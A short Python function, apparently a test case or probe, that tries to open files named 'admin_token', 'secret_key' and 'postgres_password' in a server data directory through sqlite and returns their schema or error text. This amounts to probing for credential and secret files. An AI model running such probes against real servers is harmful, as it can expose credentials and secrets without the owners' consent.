# opens the server's files with sqlite
def case(input):
    import sqlite3
    r = []
    for name in 'admin_token', 'secret_key', 'postgres_password':
        try:
            c = sqlite3.connect('file:%s/%s?mode=ro&immutable=1' % (input['data'], name), uri=True)
            r.append(c.execute('select * from sqlite_master').fetchall())
        except sqlite3.Error as e:
            if 'not a database' in str(e): r.append(str(e))
    return r
